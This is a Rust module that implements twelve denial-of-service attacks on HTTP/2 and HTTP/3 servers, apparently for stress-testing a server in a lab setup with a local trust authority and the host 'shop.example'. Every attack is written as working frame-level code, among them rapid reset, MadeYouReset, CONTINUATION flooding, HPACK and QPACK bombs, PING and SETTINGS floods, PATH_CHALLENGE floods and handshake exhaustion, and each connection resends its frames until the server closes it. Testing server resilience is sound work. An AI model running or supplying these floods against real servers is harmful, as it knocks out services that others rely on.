//! The attacks: what one connection sends, again and again, until it is closed.

use std::net::SocketAddr;
use std::path::Path;
use std::time::{Duration, Instant};

use crate::dialogue::Wire;
use crate::dialogue::http2::{self, END_HEADERS, END_STREAM, Http2, frame, kind};
use crate::dialogue::http3::{self, ENCODER, Http3};
use crate::dialogue::quic::{self, Quic, frame as quic_frame};

/// How long an attacker's connection may take to be established.
const PATIENCE: Duration = Duration::from_secs(2);
/// Bytes of frames that an attacker writes at once.
const PIECE_BYTES: usize = 8 << 10;
/// Most streams that a client may have at once, by default.
const STREAMS: u64 = 128;

/// One way to attack.
pub struct Way {
    /// Its name.
    pub name: &'static str,
    /// Whether it uses HTTP/3; otherwise HTTP/2 without TLS.
    pub is_http3: bool,
    /// Opens a connection; `None` if that failed.
    pub connect: fn(SocketAddr, &Path) -> Option<Box<dyn Attack>>,
}

/// A connection that attacks.
pub trait Attack {
    /// Sends piece number `number`; false once the connection is closed.
    fn sends(&mut self, number: u64) -> bool;
}

macro_rules! way {
    ($name:literal, h2, $next:expr) => {
        Way { name: $name, is_http3: false, connect: |address, _| over_tcp(address, $next) }
    };
    ($name:literal, h3, $next:expr) => {
        Way {
            name: $name,
            is_http3: true,
            connect: |address, authority| over_quic(address, authority, $next),
        }
    };
}

/// All attacks.
pub const WAYS: [Way; 12] = [
    way!("rapid-reset", h2, |n| {
        let stream = 2 * n as u32 + 1;
        [http2::get(stream, "/attack"), http2::reset(stream, http2::code::CANCEL)].concat()
    }),
    way!("made-you-reset", h2, |n| {
        let stream = 2 * n as u32 + 1;
        [http2::get(stream, "/attack"), http2::window_update(stream, 0)].concat()
    }),
    way!("continuation", h2, |n| match n {
        0 => frame(kind::HEADERS, END_STREAM, 1, &http2::block(&http2::request("GET", "/attack"))),
        _ => frame(kind::CONTINUATION, 0, 1, &http2::block(&[("x", "y")])),
    }),
    way!("hpack-bomb", h2, |n| {
        let mut fields = http2::block(&http2::request("GET", "/attack"));
        if n == 0 {
            fields.extend(http2::literal(0x40, b"x-bomb", &[b'v'; 4000]));
        }
        fields.resize(15_000, 0xbe);
        frame(kind::HEADERS, END_HEADERS | END_STREAM, 2 * n as u32 + 1, &fields)
    }),
    way!("hpack-bomb-below-the-limit", h2, |n| {
        let mut fields = http2::block(&http2::request("GET", "/attack"));
        if n == 0 {
            fields.extend(http2::literal(0x40, b"x", b"y"));
        }
        fields.resize(fields.len() + 1_500, 0xbe);
        frame(kind::HEADERS, END_HEADERS | END_STREAM, 2 * n as u32 + 1, &fields)
    }),
    way!("ping", h2, |_| frame(kind::PING, 0, 0, b"12345678")),
    way!("settings", h2, |_| frame(kind::SETTINGS, 0, 0, b"")),
    way!("rapid-reset-h3", h3, |client, n| {
        let head = http3::headers(&http3::request("GET", "/attack"));
        let reset = quic_frame::reset_stream(4 * n, http3::code::REQUEST_CANCELLED, head.len() as u64);
        let stop = quic_frame::stop_sending(4 * n, http3::code::REQUEST_CANCELLED);
        if n < client.quic.seen.max_streams.max(STREAMS) {
            let _ =
                client.quic.tries_to_send([quic_frame::stream(4 * n, 0, &head, true), reset, stop].concat());
        }
    }),
    way!("qpack-bomb", h3, |client, n| {
        if n == 0 {
            let entry = http3::insertion(b"x-bomb", &[b'v'; 1000]);
            client.steers(ENCODER, &[http3::capacity(4096), entry].concat());
        }
        let mut section = http3::section(&http3::request("GET", "/attack"));
        section[0] = 2;
        section.resize(15_000, 0x80);
        if n < client.quic.seen.max_streams.max(STREAMS) {
            client.requests(4 * n, &http3::frame(http3::kind::HEADERS, &section));
        }
    }),
    way!("ping-h3", h3, |client, _| drop(client.quic.tries_to_send(quic_frame::ping().repeat(1000)))),
    way!("challenges-h3", h3, |client, n| {
        let many: Vec<u8> = (0..100).flat_map(|each| quic_frame::path_challenge(n * 100 + each)).collect();
        let _ = client.quic.tries_to_send(many);
    }),
    way!("handshakes-h3", h3, |client, _| client.gives_up = true),
];

struct OverTcp {
    client: Http2,
    next: fn(u64) -> Vec<u8>,
    sent: u64,
}

fn over_tcp(address: SocketAddr, next: fn(u64) -> Vec<u8>) -> Option<Box<dyn Attack>> {
    let mut wire = Wire::try_connect(address).ok()?;
    wire.tries_to_send([http2::PREFACE, &frame(kind::SETTINGS, 0, 0, b"")].concat()).ok()?;
    Some(Box::new(OverTcp { client: Http2 { wire }, next, sent: 0 }))
}

impl Attack for OverTcp {
    fn sends(&mut self, _: u64) -> bool {
        let mut piece = Vec::new();
        while piece.len() < PIECE_BYTES {
            piece.extend((self.next)(self.sent));
            self.sent += 1;
        }
        self.client.wire.tries_to_send(&piece).is_ok() && !self.client.wire.has_ended()
    }
}

struct OverQuic {
    client: Http3,
    next: fn(&mut Http3, u64),
}

fn over_quic(address: SocketAddr, authority: &Path, next: fn(&mut Http3, u64)) -> Option<Box<dyn Attack>> {
    let trust = quic::trusting(authority);
    let quic = Quic::try_connect(address, "shop.example", &trust, PATIENCE).ok()?;
    Some(Box::new(OverQuic { client: Http3::over(quic), next }))
}

impl Attack for OverQuic {
    fn sends(&mut self, number: u64) -> bool {
        if number % 4 == 3 {
            // Without congestion control it would only fill the socket's queue, which is no attack on HTTP/3.
            let _ = self.client.quic.receives_datagram(Instant::now() + Duration::from_millis(5));
        }
        (self.next)(&mut self.client, number);
        !self.client.gives_up && self.client.quic.closed().is_none()
    }
}
